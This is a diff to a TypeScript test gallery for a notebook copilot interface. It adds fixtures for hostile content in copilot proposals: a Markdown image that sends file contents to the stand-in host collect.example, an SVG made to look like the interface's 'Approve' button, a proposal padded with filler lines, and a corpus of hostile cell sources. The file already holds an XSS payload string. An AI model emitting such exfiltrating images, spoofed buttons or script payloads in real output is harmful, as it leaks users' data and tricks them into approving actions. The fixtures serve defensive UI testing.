@@ -1,12 +1,25 @@
 import type { CopilotView } from '../src/view-model/copilot-view';
 import type { CellDiff, Open } from '../src/protocol';
+import corpus from '../../tests/hostile/sources.json';
 import { ALICE, at, BOB, chosen, KERNEL, NOW, participant, Scene, view, YOU } from './fixtures';
+
+/** A picture that looks like a button of ours. */
+const BUTTON = `data:image/svg+xml;base64,${btoa(
+  '<svg xmlns="http://www.w3.org/2000/svg" width="96" height="28"><rect width="96" height="28" rx="4" fill="#1976d2"/><text x="48" y="18" fill="#fff" font-family="sans-serif" font-size="12" text-anchor="middle">Approve</text></svg>'
+)}`;
+const FETCHING =
+  '## Result\n\n![](https://collect.example/x.png?d=the-first-line-of-a-file)\n\nThe model fits well.';
+const TRAINING = Array.from(
+  { length: 60 },
+  (_, step) => `history.append(train(step=${step}, rate=0.01))`
+).join('\n');
 
 /** One picture of the gallery. */
 export interface Exhibit {
   name: string;
   view: CopilotView;
   width?: number;
+  height?: number;
   rtl?: boolean;
   /** What is shown instead of a room. */
   instead?: 'no_notebook';
@@ -203,6 +216,35 @@ const XSS =
   '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><a href="javascript:window.hacked=1">click</a> <svg onload="window.hacked=1"></svg> **bold stays**';
 
 const LONG = 'A very long name that nobody should have but somebody always does';
+
+function inserted(after: string): CellDiff {
+  return { ...EDIT, action: 'insert', label: 'new cell after cell 4', before: null, after };
+}
+
+function proposal(
+  title: string,
+  cells: CellDiff[],
+  more: Partial<Open> = {},
+  effect: 'edit' | 'execute' = 'execute'
+): CopilotView {
+  const scene = new Scene()
+    .say(ALICE, at(-1), 'Go on.')
+    .call(title, at(-1, 20), { effect, status: 'proposed', cells, outputs: [] }, more);
+  return view(scene.state());
+}
+
+/** The corpus of hostile sources, as one card shows it. */
+function hostile(): CopilotView {
+  const cells = corpus.sources.map(({ name, source }, index): CellDiff => ({
+    ...EDIT,
+    action: 'run',
+    cell_id: `hostile${index}`,
+    label: name,
+    before: source,
+    after: null
+  }));
+  return proposal(`Run ${cells.length} cells`, cells);
+}
 
 export const EXHIBITS: Exhibit[] = [
   { name: 'asks', view: asked() },
@@ -446,6 +488,34 @@ export const EXHIBITS: Exhibit[] = [
           effect: 'execute',
           outputs: [{ kind: 'result', text: XSS, image: null, cell_id: null }]
         })
+        .state()
+    )
+  },
+  {
+    name: 'hostile',
+    width: 620,
+    height: 3050,
+    view: hostile(),
+    clicks: ['.jp-Copilot-unseen .jp-Copilot-link']
+  },
+  { name: 'unseen', view: proposal('Insert and run a cell after cell 4', [inserted(TRAINING)]) },
+  {
+    name: 'fetches',
+    view: proposal(
+      'Insert a Markdown cell after cell 4',
+      [{ ...inserted(FETCHING), cell_type: 'markdown' }],
+      {
+        body: 'Showing this can make browsers fetch from `collect.example`, at once and without a click: whatever stands in the address is sent there.'
+      },
+      'edit'
+    )
+  },
+  {
+    name: 'pictured',
+    view: view(
+      new Scene()
+        .say(ALICE, at(-1), 'Draw me something.', OVER)
+        .answer(at(-1, 5), `Here it is:\n\n[![Approve](${BUTTON})](https://elsewhere.example/x)`)
         .state()
     )
   }
